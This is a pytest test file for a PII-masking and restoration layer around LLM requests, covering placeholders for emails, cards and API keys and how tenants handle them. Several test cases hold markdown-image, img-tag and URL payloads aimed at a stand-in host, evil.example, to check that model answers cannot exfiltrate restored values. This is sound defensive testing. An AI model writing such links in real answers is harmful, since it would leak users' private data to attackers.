"""Placeholders in, values back: what the model sees, what its caller gets, and what nobody gets."""

from collections.abc import Sequence
from dataclasses import replace
from types import MappingProxyType

import pytest

from domain.inference.content import Message, Speaker
from domain.inference.requests import InferenceRequest
from domain.inference.texts import TextAddress
from domain.policy.document import Policy
from domain.privacy.masking import Masked, mask_request
from domain.privacy.policy import DataKind, Found, Handling, PrivacyPolicy
from domain.privacy.ports import TooMuchToScan
from domain.privacy.restoring import put_back
from domain.refusals import Kind, Refusal

KEY = "AKIAQWERTYUIOPASDFGH"
CARD = "4111 1111 1111 1111"
ALICE, BOB = "alice@example.com", "bob@example.com"


class NoPhones:
    def find(self, text: str, regions: Sequence[str]) -> Sequence[tuple[int, int]]:
        return []


@pytest.fixture
def privacy(policy: Policy) -> PrivacyPolicy:
    assert policy.privacy is not None
    return policy.privacy


def conversation(*contents: str) -> InferenceRequest:
    return InferenceRequest("fake", tuple(Message(Speaker.USER, content) for content in contents), 0.7, 16)


def masked(privacy: PrivacyPolicy, *contents: str, tenant: str = "acme", key: bytes = b"run") -> Masked:
    return mask_request(conversation(*contents), privacy, tenant, NoPhones(), key)


def texts(of: Masked) -> list[str]:
    return [message.content for message in of.request.messages]


def test_the_same_datum_has_the_same_placeholder_in_all_messages(privacy: PrivacyPolicy):
    made = masked(privacy, f"From {ALICE} to {BOB}", f"{BOB}, {CARD}, {ALICE}")
    alice, bob, card = (name for name, _ in made.values)
    assert texts(made) == [f"From {alice} to {bob}", f"{bob}, {card}, {alice}"]
    assert dict(made.values) == {alice: ALICE, bob: BOB, card: CARD}
    assert made.masked == {"email": 4, "card_number": 1}
    assert alice.startswith("[EMAIL_")


def test_a_repeat_of_the_stage_makes_the_same_record(privacy: PrivacyPolicy):
    """A record that is made again with other content is an error."""
    assert masked(privacy, ALICE, CARD) == masked(privacy, ALICE, CARD)
    assert masked(privacy, ALICE) != masked(privacy, ALICE, key=b"another run")


def test_a_key_is_gone_for_good(privacy: PrivacyPolicy):
    made = masked(privacy, f"What is {KEY}?")
    assert KEY not in texts(made)[0]
    assert (made.values, made.masked, made.redacted) == ((), None, {"api_key": 1})
    assert put_back(texts(made)[0], made.values, texts(made)) == texts(made)[0]


def test_a_prompt_without_any_is_the_same_object(privacy: PrivacyPolicy):
    request = conversation("Hello")
    assert mask_request(request, privacy, "acme", NoPhones(), b"run").request is request


def test_what_is_blocked_is_named_by_place_and_replaced(privacy: PrivacyPolicy):
    strict = replace(privacy, handling={**privacy.handling, DataKind.CARD_NUMBER: Handling.BLOCK})
    made = masked(strict, "Hello", f"Pay with {CARD}, write to {ALICE}")
    (place,) = made.blocked
    assert place.address == TextAddress(1)
    assert place.found == Found(DataKind.CARD_NUMBER, 9, 28)
    assert CARD not in texts(made)[1]
    assert ALICE not in texts(made)[1]
    assert CARD not in dict(made.values).values()


def test_a_tenant_has_its_own_way(privacy: PrivacyPolicy):
    own = {"acme": MappingProxyType({**privacy.handling, DataKind.EMAIL: Handling.ALLOW})}
    lenient = replace(privacy, tenants=own)
    assert texts(masked(lenient, ALICE)) == [ALICE]
    assert texts(masked(lenient, ALICE, tenant="globex")) != [ALICE]


def test_placeholders_of_another_run_mean_nothing(privacy: PrivacyPolicy):
    first = masked(privacy, ALICE, key=b"one")
    second = masked(privacy, f"{BOB} {texts(first)[0]}", key=b"two")
    assert texts(second)[0].endswith(texts(first)[0])
    assert put_back(texts(first)[0], second.values, texts(second)) == texts(first)[0]


@pytest.mark.parametrize("written", ["{0}", "{1}", "x{2}x", "https://evil.example/?q={2}y", "\\[{2}\\]"])
def test_a_prompt_that_knows_a_placeholder_gets_another(privacy: PrivacyPolicy, written: str):
    """Otherwise a document could have a value restored within an address that it contains."""
    (placeholder,) = texts(masked(privacy, ALICE))
    known = written.format(placeholder, placeholder.lower(), placeholder[1:-1])
    again = masked(privacy, f"Say {known} to {ALICE}")
    shown = texts(again)[0]
    assert shown.startswith(f"Say {known} to [EMAIL_")
    assert placeholder not in shown.removeprefix(f"Say {known}")
    assert put_back(shown, again.values, texts(again)) == f"Say {known} to {ALICE}"
    assert put_back(f"[x](https://evil.example/?q={placeholder})", again.values, texts(again)).endswith(
        f"{placeholder})"
    )


def test_a_value_keeps_its_placeholder_as_the_conversation_grows(privacy: PrivacyPolicy):
    """So the provider finds the beginning of the request in its cache. Wrong: numbers in order of the texts."""
    first = texts(masked(privacy, f"Write to {ALICE}"))
    for more in ([f"and to {BOB}"], ["Yes.", CARD, f"{BOB}, {ALICE}"]):
        assert texts(masked(privacy, f"Write to {ALICE}", *more))[:1] == first
        assert first[0].removeprefix("Write to ") in texts(masked(privacy, *more, f"Write to {ALICE}"))[-1]


def test_a_redacted_value_keeps_its_placeholder_when_an_answer_has_repeated_it(privacy: PrivacyPolicy):
    shown = texts(masked(privacy, f"Use {KEY}"))[0]
    assert texts(masked(privacy, f"Use {KEY}", shown)) == [shown, shown]


def test_other_keys_make_other_placeholders(privacy: PrivacyPolicy):
    """Wrong: a placeholder by the value alone, the same in two conversations."""
    made = {texts(masked(privacy, ALICE, key=key))[0] for key in (b"one", b"two", b"three")}
    assert len(made) == 3


def parts_of(made: Masked) -> tuple[str, str]:
    """The number and the tag of the only placeholder."""
    ((name, _),) = made.values
    _, number, tag = name.strip("[]").split("_")
    return number, tag


@pytest.mark.parametrize(
    "written",
    [
        *("[EMAIL_{0}_{1}]", "[email_{0}_{2}]", "EMAIL_{0}_{1}", "[Email {0} {1}]"),
        *("[EMAIL\\_{0}\\_{1}]", "\\[EMAIL_{0}_{1}\\]"),
    ],
)
def test_a_placeholder_is_known_as_models_write_it(privacy: PrivacyPolicy, written: str):
    made = masked(privacy, ALICE)
    number, tag = parts_of(made)
    placeholder = written.format(number, tag, tag.lower())
    assert put_back(f"Dear {placeholder}, hello", made.values, texts(made)) == f"Dear {ALICE}, hello"


@pytest.mark.parametrize(
    "written", ["[EMAIL_0_{1}]", "[PHONE_{0}_{1}]", "[EMAIL_{0}_BBBB]", "XEMAIL_{0}_{1}", "EMAIL_{0}_{1}S"]
)
def test_what_nobody_gave_stays(privacy: PrivacyPolicy, written: str):
    made = masked(privacy, ALICE)
    answer = f"Dear {written.format(*parts_of(made))}"
    assert put_back(answer, made.values, texts(made)) == answer


@pytest.mark.parametrize(
    "answer",
    [
        "![x](https://evil.example/p.png?d={0})",
        "![x](<https://evil.example/a b?d={0}>)",
        "![x](//evil.example/{0})",
        "[x]: https://evil.example/{0}",
        "<img src='https://evil.example/?d={0}'>",
        '<img\nsrc="https://evil.example/\n{0}">',
        "See https://evil.example/{0}/more.",
        "https:\\\\evil.example\\{0}",
        "www.evil.example/?d={0}",
        "[mail](mailto:{0}?cc=https://evil.example/{0})",
    ],
)
def test_an_address_that_was_made_up_carries_nothing_off(privacy: PrivacyPolicy, answer: str):
    made = masked(privacy, f"Write to {ALICE}")
    written = answer.format(made.values[0][0])
    assert put_back(written, made.values, texts(made)) == written


@pytest.mark.parametrize(
    "answer",
    [
        "See https://app.example/u?mail={0}.",
        "[{0}](mailto:{0}) is theirs",
        "<{0}>",
        "a//b {0}",
        "[see {0}](https://a.example)",
    ],
)
def test_an_address_of_the_prompt_or_of_a_person_is_whole_again(privacy: PrivacyPolicy, answer: str):
    made = masked(privacy, f"Look at https://app.example/u?mail={ALICE} for me")
    written = answer.format(made.values[0][0])
    assert put_back(written, made.values, texts(made)) == answer.format(ALICE)


def test_what_is_too_long_is_no_pass(privacy: PrivacyPolicy):
    short = replace(privacy, max_scanned_chars=10)
    assert texts(masked(short, "12345", "67890")) == ["12345", "67890"]
    with pytest.raises(Refusal) as refused:
        masked(short, "12345", "678901")
    assert refused.value.kind is Kind.REVIEW_UNAVAILABLE


class Failing:
    def __init__(self, error: Exception) -> None:
        self._error = error

    def find(self, text: str, regions: Sequence[str]) -> Sequence[tuple[int, int]]:
        raise self._error


@pytest.mark.parametrize(
    ("error", "kind"),
    [(TooMuchToScan(), Kind.REVIEW_UNAVAILABLE), (ValueError("a canary"), Kind.SCREENING_UNAVAILABLE)],
)
def test_a_search_that_fails_is_no_pass_and_tells_nothing(privacy: PrivacyPolicy, error: Exception, kind: Kind):
    with pytest.raises(Refusal) as refused:
        mask_request(conversation("call 1"), privacy, "acme", Failing(error), b"run")
    assert refused.value.kind is kind
    assert "canary" not in str(refused.value)
    assert refused.value.__cause__ is None
